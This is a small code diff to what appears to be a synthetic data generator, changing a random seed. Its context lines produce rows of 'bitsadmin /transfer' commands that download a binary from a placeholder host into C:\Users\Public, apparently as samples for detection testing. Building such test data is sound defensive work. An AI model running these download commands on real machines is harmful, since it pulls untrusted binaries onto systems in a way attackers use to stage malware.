@@ -34,7 +34,7 @@ def numbers(seed):
 
 
 def rows():
-    sequence = numbers(1)
+    sequence = numbers(0x5EED)
     for number in range(ROWS):
         if number % EVERY == 0:
             yield "bitsadmin.exe", rf"bitsadmin /transfer job{number} http://files.example/{number} C:\Users\Public\a.bin"
